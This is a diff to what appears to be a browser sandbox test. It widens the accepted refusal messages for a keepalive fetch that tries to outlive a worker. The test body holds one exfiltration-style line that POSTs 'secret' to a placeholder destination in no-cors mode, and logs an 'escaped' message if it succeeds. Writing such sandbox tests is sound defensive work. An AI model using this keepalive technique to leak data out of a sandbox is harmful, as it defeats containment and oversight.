@@ -1,7 +1,7 @@
 // A request that outlives who sends it.
 // tries: send a request with `keepalive`, which the browser finishes when the worker is long gone
 // must: be refused like any other request
-// refusal: Failed to fetch|no network
+// refusal: Failed to fetch|NetworkError|Load failed|no network
 // control: heard
 await fetch(OUT, { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true });
 console.log('escaped: the request was sent');
